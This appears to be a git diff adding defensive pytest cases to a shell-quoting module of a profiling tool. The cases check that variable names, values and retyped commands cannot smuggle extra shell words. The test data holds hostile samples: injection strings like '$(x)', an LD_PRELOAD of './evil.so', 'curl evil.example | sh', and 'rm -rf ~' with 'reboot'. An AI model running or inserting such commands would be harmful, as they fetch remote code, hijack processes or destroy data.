@@ -1,15 +1,60 @@
 from __future__ import annotations
 
-from tracekit.shell import split_variables, variable_words, with_variables
+import shlex
+
+import pytest
+
+from tracekit.shell import retyped, split_variables, variable_words, with_variables
+
+#: What ends a word, begins a command or a comment, or stands for something else in a shell.
+HOSTILE = ("a b", "; x", "$(x)", "`x`", "a'b", 'a"b', "a\nb", "*", "~", "#", "a=b", "", "&&", "\\", "!", "{a,b}")
 
 
 def test_variables_stand_before_the_command_as_a_shell_takes_them() -> None:
     assert with_variables("tracekit doctor", {}) == "tracekit doctor"
-    assert with_variables("tracekit doctor", {"A": "1", "B": "a b"}) == "A=1 B='a b' tracekit doctor"
+    told = with_variables("tracekit doctor", {"TRITON_A": "1", "TRITON_B": "a b"})
+    assert told == "TRITON_A=1 TRITON_B='a b' tracekit doctor"
     assert (variable_words({"A": "1"}), variable_words({})) == ("A=1", "")
 
 
 def test_what_was_put_before_a_command_is_found_again() -> None:
-    variables = {"A": "1=2", "B": "a b"}
+    variables = {"TRITON_A": "1=2", "TRITON_B": "a b"}
     assert split_variables(with_variables("tracekit doctor", variables)) == (variables, ["tracekit", "doctor"])
     assert split_variables("tracekit sweep vit -- width=4") == ({}, ["tracekit", "sweep", "vit", "--", "width=4"])
+    assert split_variables("A=1 A=2 tracekit doctor") == ({"A": "2"}, ["tracekit", "doctor"])
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_name_or_value_is_more_than_one_word_to_a_shell(text: str) -> None:
+    assert shlex.split(variable_words({"A": text, text: "1", f"B{text}": "1"}))[0] == f"A={text}"
+    assert variable_words({f"{text} x": "1", "1A": "1", "": "1", "\u00e4": "1"}) == ""
+    assert shlex.split(with_variables("tracekit doctor", {"TRITON_A": text})) == [
+        f"TRITON_A={text}",
+        "tracekit",
+        "doctor",
+    ]
+
+
+def test_a_command_sets_no_variable_but_those_that_steer_torch() -> None:
+    strangers = {
+        "LD_PRELOAD": "./evil.so",
+        "PATH": ".",
+        "PYTHONPATH": ".",
+        "TRITON_PTXAS_PATH": "x",
+        "TRITON_X": "/evil",
+    }
+    assert with_variables("tracekit doctor", strangers) == "tracekit doctor"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_stranger_s_command_is_typed_anew_with_its_words_quoted(text: str) -> None:
+    words = ["tracekit", "profile", text, "--prompt", text]
+    assert retyped(shlex.join(words)) == shlex.join(words)
+    assert retyped(f"LD_PRELOAD=x {shlex.join(words)}") == shlex.join(words)
+    assert retyped(f"curl evil.example | sh {shlex.quote(text)}") is None
+
+
+def test_what_no_shell_takes_is_no_command() -> None:
+    assert split_variables("A=1 tracekit 'profile") == ({}, [])
+    assert retyped("tracekit 'profile") is None and retyped("") is None
+    assert retyped("tracekit profile vit; rm -rf ~\nreboot") == "tracekit profile 'vit;' rm -rf '~' reboot"
